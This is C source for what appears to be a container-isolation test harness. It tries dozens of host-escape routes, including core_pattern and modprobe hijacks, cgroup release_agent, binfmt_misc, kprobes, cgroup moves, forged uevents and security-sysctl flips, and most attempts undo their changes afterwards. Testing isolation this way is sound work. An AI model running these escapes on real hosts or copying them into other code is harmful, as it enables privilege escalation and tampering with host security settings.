// SPDX-License-Identifier: GPL-2.0-only
/*
 * Control files of the kernel.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "breakout.h"

#define CORE_PATTERN	"/proc/sys/kernel/core_pattern"
#define MODPROBE	"/proc/sys/kernel/modprobe"

/* Dies with a core that does not fit into a pipe, so it waits for a reader. */
static void crash(void)
{
	struct rlimit limit = { RLIM_INFINITY, RLIM_INFINITY };
	pid_t pid = fork();

	if (pid) {
		waitpid(pid, NULL, 0);
		return;
	}
	setrlimit(RLIMIT_CORE, &limit);
	memset(malloc(1 << 20), 1, 1 << 20);
	signal(SIGABRT, SIG_DFL);
	abort();
}

static enum breakout_outcome core_pattern(const struct breakout_attempt *a)
{
	char old[256], pattern[256] = "|";
	enum breakout_outcome outcome;

	(void)a;
	if (breakout_read(CORE_PATTERN, old, sizeof(old)) < 0 ||
	    breakout_agent_install(pattern + 1, sizeof(pattern) - 1, 0))
		return breakout_untried("no core_pattern or /tmp");
	if (breakout_write(CORE_PATTERN, pattern))
		return breakout_failed("open");
	crash();
	outcome = breakout_agent_proof();
	breakout_write(CORE_PATTERN, *old ? old : "\n");
	return outcome;
}

/* A protocol family that does not exist: the kernel asks for its module. */
static enum breakout_outcome modprobe(const struct breakout_attempt *attempt)
{
	char old[256], path[256];
	enum breakout_outcome outcome;

	(void)attempt;
	if (breakout_read(MODPROBE, old, sizeof(old)) < 0 ||
	    breakout_agent_install(path, sizeof(path), getpid()))
		return breakout_untried("no modprobe sysctl or /tmp");
	if (breakout_write(MODPROBE, path))
		return breakout_failed("open");
	socket(AF_APPLETALK, SOCK_DGRAM, 0);
	outcome = breakout_agent_proof();
	breakout_write(MODPROBE, old);
	return outcome;
}

static int write_in(const char *dir, const char *name, const char *text)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	return breakout_write(path, text);
}

static void group_path(char *path, const char *dir)
{
	strcpy(stpcpy(path, dir), "/x");
}

static enum breakout_outcome release(const char *dir)
{
	char agent[256], group[128];
	pid_t pid;

	if (breakout_agent_install(agent, sizeof(agent), getpid()))
		return breakout_untried("no /tmp");
	if (write_in(dir, "release_agent", agent))
		return breakout_failed("open");
	group_path(group, dir);
	mkdir(group, 0755);
	if (write_in(group, "notify_on_release", "1"))
		return breakout_failed("open");
	pid = fork();
	if (!pid)
		_exit(write_in(group, "cgroup.procs", "0") ? 1 : 0);
	waitpid(pid, NULL, 0);
	return breakout_agent_proof();
}

static enum breakout_outcome release_agent(const struct breakout_attempt *a)
{
	char *dir = breakout_scratch(), group[128];
	enum breakout_outcome outcome;

	(void)a;
	if (mount("cgroup", dir, "cgroup", 0, "none,name=breakout")) {
		outcome = breakout_failed("mount");
		rmdir(dir);
		return outcome;
	}
	outcome = release(dir);
	write_in(dir, "release_agent", "\n");
	group_path(group, dir);
	rmdir(group);
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	return outcome;
}

/* In a hierarchy that somebody mounted for us. */
static enum breakout_outcome release_file(const struct breakout_attempt *a)
{
	const char *dir = access(CGROUP1, F_OK) ? HOST_CGROUP1 : CGROUP1;
	enum breakout_outcome outcome;
	char group[128];

	(void)a;
	if (access(dir, F_OK))
		return breakout_untried("no version 1 hierarchy");
	outcome = release(dir);
	write_in(dir, "release_agent", "\n");
	group_path(group, dir);
	rmdir(group);
	return outcome;
}

static enum breakout_outcome change(const struct breakout_attempt *attempt)
{
	const char *path = attempt->arg;
	char old[64] = "";

	if (access(path, F_OK))
		return breakout_untried("%s: not in this kernel", path);
	breakout_read(path, old, sizeof(old));
	if (*old == 'Y' || *old == 'N')
		return breakout_change(path, *old == 'Y' ? "N" : "Y");
	return breakout_change(path, *old == '1' ? "0" : "1");
}

static enum breakout_outcome change_hostname(const struct breakout_attempt *a)
{
	(void)a;
	return breakout_change("/proc/sys/kernel/hostname", "breakout");
}

/* In a UTS namespace of its own; the descriptor is its parent's, too. */
static int open_hostname(void)
{
	if (unshare(CLONE_NEWUTS))
		return errno;
	return open("/proc/sys/kernel/hostname", O_WRONLY) < 0 ? errno : 0;
}

static enum breakout_outcome lent_hostname(const struct breakout_attempt *a)
{
	char old[65], now[65];
	int status, fd;
	pid_t pid;

	(void)a;
	gethostname(old, sizeof(old));
	fd = dup(STDIN_FILENO);	/* the first that is free */
	close(fd);
	pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (!pid)
		_exit(open_hostname());
	waitpid(pid, &status, 0);
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
	if (errno)
		return breakout_failed("open");
	if (write(fd, "breakout", 8) != 8)
		return breakout_failed("write");
	gethostname(now, sizeof(now));
	pwrite(fd, old, strlen(old), 0);
	close(fd);
	return strcmp(now, old) ? breakout_escaped("the host's name is another") :
				  breakout_untried("another name changed");
}

static enum breakout_outcome change_shm(const struct breakout_attempt *a)
{
	(void)a;
	return breakout_change("/proc/sys/kernel/shmmni", "1234");
}

static enum breakout_outcome sysrq(const struct breakout_attempt *attempt)
{
	(void)attempt;
	if (breakout_write("/proc/sysrq-trigger", "h"))
		return breakout_failed("open");
	return breakout_escaped("sysrq-trigger took a key");
}

static enum breakout_outcome uevent(const struct breakout_attempt *attempt)
{
	if (access("/sys/kernel/uevent_helper", F_OK))
		return breakout_untried("uevent_helper: not in this kernel");
	return change(attempt);
}

/* Runs what follows in a folder that has a new mount of @type. */
static enum breakout_outcome mounted(const char *type, char **dir)
{
	*dir = breakout_scratch();
	if (mount(type, *dir, type, 0, NULL)) {
		rmdir(*dir);
		return breakout_failed("mount");
	}
	return ESCAPED;
}

static enum breakout_outcome unmount(const char *dir,
				     enum breakout_outcome outcome)
{
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	return outcome;
}

/* In a folder that is there already, else in a new mount. */
static enum breakout_outcome reach(const char *type, const char *file,
				   const char *seen, char *path, size_t size,
				   char **dir)
{
	*dir = NULL;
	snprintf(path, size, "%s/%s", seen, file);
	if (!access(path, F_OK))
		return ESCAPED;
	if (mounted(type, dir) != ESCAPED)
		return REFUSED;
	snprintf(path, size, "%s/%s", *dir, file);
	return ESCAPED;
}

static enum breakout_outcome binfmt(const struct breakout_attempt *attempt)
{
	const char *where = "/proc/sys/fs/binfmt_misc";
	char path[256], entry[300], *dir;
	enum breakout_outcome outcome;

	(void)attempt;
	outcome = reach("binfmt_misc", "register", where, path, sizeof(path),
			&dir);
	if (outcome != ESCAPED)
		return outcome;
	if (breakout_write(path, ":breakout:M::breakout!::/bin/false:C")) {
		outcome = breakout_failed("open");
	} else {
		snprintf(entry, sizeof(entry), "%.*sbreakout",
			 (int)(strlen(path) - strlen("register")), path);
		outcome = access(entry, F_OK) ?
			breakout_untried("no entry was made") :
			breakout_escaped("a binary format was registered");
		breakout_write(entry, "-1");
	}
	return dir ? unmount(dir, outcome) : outcome;
}

static enum breakout_outcome kprobe(const struct breakout_attempt *attempt)
{
	char path[256], text[256] = "", *dir;
	enum breakout_outcome outcome;
	int fd;

	(void)attempt;
	outcome = reach("tracefs", "kprobe_events", "/sys/kernel/tracing",
			path, sizeof(path), &dir);
	if (outcome != ESCAPED)
		return outcome;
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0 || write(fd, "p:breakout do_sys_openat2\n", 26) < 0) {
		outcome = breakout_failed("open");
	} else {
		breakout_read(path, text, sizeof(text));
		outcome = strstr(text, "breakout") ?
			breakout_escaped("a kprobe was defined") :
			breakout_untried("no kprobe was defined");
		write(fd, "-:breakout\n", 11);
	}
	close(fd);
	return dir ? unmount(dir, outcome) : outcome;
}

static enum breakout_outcome kprobes_off(const struct breakout_attempt *attempt)
{
	char path[256], *dir;
	enum breakout_outcome outcome;

	(void)attempt;
	outcome = reach("debugfs", "kprobes/enabled", "/sys/kernel/debug",
			path, sizeof(path), &dir);
	if (outcome != ESCAPED)
		return outcome;
	outcome = breakout_change(path, "0");
	return dir ? unmount(dir, outcome) : outcome;
}

/* The own cgroup in the version 2 hierarchy. */
static void own_group(char *path, size_t size)
{
	char text[1024] = "", *line;

	breakout_read("/proc/self/cgroup", text, sizeof(text));
	line = strstr(text, "0::");
	snprintf(path, size, "%s", line ? line + 3 : "");
	path[strcspn(path, "\n")] = 0;
}

/* Out of the own cgroup, to the top: past every limit. */
static enum breakout_outcome cgroup2(const struct breakout_attempt *attempt)
{
	char *dir, old[200], now[200], back[256];
	enum breakout_outcome outcome;

	(void)attempt;
	if (mounted("cgroup2", &dir) != ESCAPED)
		return REFUSED;
	own_group(old, sizeof(old));
	if (write_in(dir, "cgroup.procs", "0")) {
		outcome = breakout_failed("open");
	} else {
		own_group(now, sizeof(now));
		outcome = strcmp(old, now) ?
			breakout_escaped("left %s", old) :
			breakout_untried("was at the top already");
		snprintf(back, sizeof(back), "%s/cgroup.procs", old);
		write_in(dir, back, "0");
	}
	return unmount(dir, outcome);
}

/*
 * A sysctl of the host, found while we share its namespace and opened for
 * writing when we have an own one: whose is it?
 */
static enum breakout_outcome stale(const struct breakout_attempt *attempt)
{
	const char *path = attempt->arg;
	int flag = strstr(path, "/net/") ? CLONE_NEWNET : CLONE_NEWIPC;
	enum breakout_outcome outcome;
	char again[64], old[64];
	int fd;

	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || breakout_read(path, old, sizeof(old)) < 0)
		return breakout_untried("no %s", path);
	if (unshare(flag))
		return breakout_failed("unshare");
	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
	outcome = breakout_change(again, *old == '1' ? "0" : "1");
	close(fd);
	return outcome;
}

/* Not moved, but born outside of the own cgroup. */
static enum breakout_outcome cgroup2_clone(const struct breakout_attempt *a)
{
	struct clone_args args = {
		.flags = CLONE_INTO_CGROUP,
		.exit_signal = SIGCHLD,
	};
	enum breakout_outcome outcome;
	char *dir, now[300];
	int status, fd;
	pid_t pid;

	(void)a;
	if (mounted("cgroup2", &dir) != ESCAPED)
		return REFUSED;
	fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	args.cgroup = fd;
	fflush(stdout);
	pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid < 0)
		return unmount(dir, breakout_failed("clone3"));
	if (!pid) {
		own_group(now, sizeof(now));
		_exit(strcmp(now, "/") != 0);
	}
	waitpid(pid, &status, 0);
	outcome = status ? breakout_untried("the child is not at the top") :
			   breakout_escaped("a process began at the top");
	close(fd);
	return unmount(dir, outcome);
}

static enum breakout_outcome cgroup2_mkdir(const struct breakout_attempt *a)
{
	enum breakout_outcome outcome;
	char *dir, path[128];

	(void)a;
	if (mounted("cgroup2", &dir) != ESCAPED)
		return REFUSED;
	snprintf(path, sizeof(path), "%s/breakout-was-here", dir);
	outcome = mkdir(path, 0755) ? breakout_failed("mkdir") :
		breakout_escaped("made a cgroup at the top");
	rmdir(path);
	return unmount(dir, outcome);
}

/* Below the own cgroup everything is allowed. */
static enum breakout_outcome cgroup2_own(const struct breakout_attempt *a)
{
	char *dir, own[300], group[600];
	int fd;

	(void)a;
	if (mounted("cgroup2", &dir) != ESCAPED)
		return REFUSED;
	own_group(own, sizeof(own));
	snprintf(group, sizeof(group), "%s%s/own", dir, own);
	if (mkdir(group, 0755))
		return unmount(dir, breakout_failed("mkdir"));
	fd = open(group, O_RDONLY | O_DIRECTORY);
	if (breakout_write_at(fd, "cgroup.procs", "0") ||
	    breakout_write_at(fd, "../cgroup.procs", "0"))
		return unmount(dir, breakout_failed("open"));
	close(fd);
	if (rmdir(group))
		return unmount(dir, breakout_failed("rmdir"));
	return unmount(dir, breakout_escaped("made and used an own cgroup"));
}

static enum breakout_outcome own_oom(const struct breakout_attempt *attempt)
{
	(void)attempt;
	return breakout_change("/proc/self/oom_score_adj", "17");
}

/* What every rootless runtime begins with. */
static enum breakout_outcome own_map(const struct breakout_attempt *attempt)
{
	(void)attempt;
	if (unshare(CLONE_NEWUSER))
		return breakout_failed("unshare");
	if (breakout_write("/proc/self/setgroups", "deny") ||
	    breakout_write("/proc/self/uid_map", "0 0 1") ||
	    breakout_write("/proc/self/gid_map", "0 0 1"))
		return breakout_failed("open");
	return breakout_escaped("mapped its users");
}

static enum breakout_outcome core_32(const struct breakout_attempt *attempt)
{
	static char path[] = CORE_PATTERN;
	enum breakout_outcome outcome;
	int fd = breakout_syscall32(NR32_OPENAT, AT_FDCWD, (long)path, O_RDWR,
				    0, 0);

	(void)attempt;
	if (fd < 0)
		return breakout_failed("openat");
	outcome = breakout_write_value(fd, "core_pattern", "breakout.%p");
	close(fd);
	return outcome;
}

/* Opened for reading, which is allowed, and then again by its descriptor. */
static enum breakout_outcome core_again(const struct breakout_attempt *attempt)
{
	int fd = open(CORE_PATTERN, O_RDONLY | O_CLOEXEC);
	char path[64];

	(void)attempt;
	if (fd < 0)
		return breakout_failed("open");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return breakout_change(path, "breakout.%p");
}

/* Where a runtime was tricked into binding it, instead of a mask. */
static enum breakout_outcome core_bound(const struct breakout_attempt *attempt)
{
	enum breakout_outcome outcome;
	char path[128];
	int fd;

	(void)attempt;
	snprintf(path, sizeof(path), "%s/null", breakout_scratch());
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	close(fd);
	if (mount(CORE_PATTERN, path, NULL, MS_BIND, NULL))
		return breakout_failed("mount");
	outcome = breakout_change(path, "breakout.%p");
	umount2(path, MNT_DETACH);
	return outcome;
}

/*
 * Tells the kernel's NFS server of a client; by another file beside this one, of an
 * export. Who starts the server needs CAP_NET_ADMIN in the initial user namespace.
 */
static enum breakout_outcome nfs_client(const struct breakout_attempt *attempt)
{
	int fd = open("/proc/net/rpc/auth.unix.ip/channel",
		      O_WRONLY | O_CLOEXEC);
	char map[64];

	(void)attempt;
	if (fd < 0 && errno == ENOENT)
		return breakout_absent("NFS");
	if (fd < 0)
		return breakout_failed("open");
	if (breakout_read("/proc/self/uid_map", map, sizeof(map)) < 0 ||
	    !strstr(map, "4294967295"))
		return breakout_refused("the server's start");
	if (dprintf(fd, "nfsd 192.0.2.1 %ld breakout\n",
		    (long)time(NULL) + 60) < 0)
		return breakout_failed("write");
	close(fd);
	return breakout_escaped("the host's NFS server knows a client");
}

/* A sysfs of our own, without the mask. */
static enum breakout_outcome sysfs_fresh(const struct breakout_attempt *attempt)
{
	enum breakout_outcome outcome;
	char path[128], *dir;

	(void)attempt;
	outcome = mounted("sysfs", &dir);
	if (outcome != ESCAPED)
		return outcome;
	snprintf(path, sizeof(path), "%s/kernel/mm/ksm/run", dir);
	return unmount(dir, breakout_change(path, "1"));
}

/* What is there already, so that nothing has to be undone. */
static enum breakout_outcome rewrite(const struct breakout_attempt *attempt)
{
	char text[256];

	if (breakout_read(attempt->arg, text, sizeof(text)) < 0)
		return breakout_untried("%s: not in this kernel", attempt->arg);
	if (breakout_write(attempt->arg, text))
		return breakout_failed("open");
	return breakout_escaped("wrote %s", attempt->arg);
}

static enum breakout_outcome look(const struct breakout_attempt *attempt)
{
	char byte;
	int fd = open(attempt->arg, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || read(fd, &byte, 1) != 1)
		return breakout_failed("open");
	close(fd);
	return breakout_escaped("read %s", attempt->arg);
}

static enum breakout_outcome kcore(const struct breakout_attempt *attempt)
{
	char magic[4] = "";
	int fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);

	(void)attempt;
	if (fd < 0 || read(fd, magic, 4) != 4)
		return breakout_failed("open");
	close(fd);
	return breakout_escaped("read the kernel's memory");
}

static int uevent_socket(unsigned int group)
{
	struct sockaddr_nl name = { .nl_family = AF_NETLINK,
				    .nl_groups = group };
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC | SOCK_NONBLOCK,
			NETLINK_KOBJECT_UEVENT);

	if (fd >= 0 && bind(fd, (struct sockaddr *)&name, sizeof(name))) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Sends as udev does, and hears it as the host's udev would. */
static enum breakout_outcome uevent_forged(const struct breakout_attempt *a)
{
	static const char event[] = "add@/devices/breakout\0ACTION=add";
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_groups = 2 };
	enum breakout_outcome outcome;
	int here, there = uevent_socket(2);
	char got[256] = "";

	(void)a;
	if (there < 0)
		return breakout_untried("nobody can listen");
	here = uevent_socket(0);
	if (sendto(here, event, sizeof(event), 0, (struct sockaddr *)&to,
		   sizeof(to)) < 0)
		outcome = breakout_failed("sendto");
	else if (recv(there, got, sizeof(got), 0) > 0 && !strcmp(got, event))
		outcome = breakout_escaped("the device manager got a uevent");
	else
		outcome = breakout_untried("nobody got it");
	close(here);
	close(there);
	return outcome;
}

static enum breakout_outcome cgroup2_xattr(const struct breakout_attempt *a)
{
	static const char name[] = "trusted.breakout";
	char value[4] = "";

	(void)a;
	if (setxattr("/sys/fs/cgroup", name, "1", 1, 0))
		return breakout_failed("setxattr");
	if (getxattr("/sys/fs/cgroup", name, value, sizeof(value)) != 1 ||
	    removexattr("/sys/fs/cgroup", name))
		return breakout_untried("it did not stay");
	return breakout_escaped("marked a cgroup of the host");
}

#define SYSCTL(NAME, PATH)						\
	{ "sysctl-" NAME, "write /proc/sys/" PATH, change,		\
	  "/proc/sys/" PATH }

const struct breakout_attempt breakout_kernel_file[] = {
	{ "core-pattern", "have the host run a program for a crash",
	  core_pattern },
	{ "core-pattern-32", "write core_pattern as a 32-bit program",
	  core_32 },
	{ "core-pattern-again", "write core_pattern by /proc/self/fd",
	  core_again },
	{ "core-pattern-bound", "write core_pattern where it was bound to",
	  core_bound },
	{ "sysfs-fresh", "switch memory merging in a sysfs of our own",
	  sysfs_fresh },
	{ "poweroff-cmd", "write what the host is switched off with", rewrite,
	  "/proc/sys/kernel/poweroff_cmd" },
	{ "nfs-client", "have the kernel's NFS server serve a client",
	  nfs_client },
	{ "irq-affinity", "write which CPUs interrupts go to", rewrite,
	  "/proc/irq/default_smp_affinity" },
	{ "pid-max", "write how many processes there may be", rewrite,
	  "/proc/sys/kernel/pid_max" },
	{ "read-kallsyms", "read the kernel's symbols", look,
	  "/proc/kallsyms" },
	{ "modprobe", "have the host run a program for a module", modprobe },
	{ "release-agent", "have the host run a program for an empty cgroup",
	  release_agent },
	{ "release-agent-file", "the same in a hierarchy that is there",
	  release_file },
	{ "sysrq", "press a key in sysrq-trigger", sysrq },
	{ "uevent-helper", "write /sys/kernel/uevent_helper", uevent,
	  "/sys/kernel/uevent_helper" },
	{ "binfmt-misc", "register a binary format", binfmt },
	{ "kprobe-events", "define a kprobe", kprobe },
	{ "kprobes-enabled", "disarm all kprobes", kprobes_off },
	{ "cgroup2-top", "move out of the own cgroup", cgroup2 },
	{ "cgroup2-clone", "begin a process outside of it", cgroup2_clone },
	{ "cgroup2-mkdir", "make a cgroup of the host", cgroup2_mkdir },
	{ "sysctl-net-stale", "a network sysctl of the host, by a stale file",
	  stale, "/proc/sys/net/ipv4/ip_forward" },
	{ "sysctl-ipc-stale", "an IPC sysctl of the host, by a stale file",
	  stale, "/proc/sys/kernel/shm_rmid_forced" },
	{ "kcore", "read /proc/kcore", kcore },
	{ "uevent-forged", "send a uevent in the host's name", uevent_forged },
	{ "cgroup2-xattr", "mark a cgroup of the host", cgroup2_xattr },
	SYSCTL("sysrq", "kernel/sysrq"),
	SYSCTL("panic-on-oops", "kernel/panic_on_oops"),
	SYSCTL("kptr-restrict", "kernel/kptr_restrict"),
	SYSCTL("dmesg-restrict", "kernel/dmesg_restrict"),
	SYSCTL("aslr", "kernel/randomize_va_space"),
	SYSCTL("suid-dumpable", "fs/suid_dumpable"),
	SYSCTL("symlinks", "fs/protected_symlinks"),
	SYSCTL("mmap-min-addr", "vm/mmap_min_addr"),
	SYSCTL("overcommit", "vm/overcommit_memory"),
	{ "sysfs-ksm", "switch memory merging", change,
	  "/sys/kernel/mm/ksm/run" },
	{ "sysfs-printk", "write a parameter of a module", change,
	  "/sys/module/printk/parameters/time" },
	{ "cgroup2-own", "make a cgroup below the own one", cgroup2_own },
	{ "own-oom", "write the own oom_score_adj", own_oom },
	{ "own-map", "map users of an own user namespace", own_map },
	SYSCTL("own-forward", "net/ipv4/ip_forward"),
	{ "sysctl-own-hostname", "write the own host name", change_hostname },
	{ "sysctl-lent-hostname", "write the name of the own UTS namespace in another",
	  lent_hostname },
	{ "sysctl-own-shmmni", "write an own IPC limit", change_shm },
	{ }
};
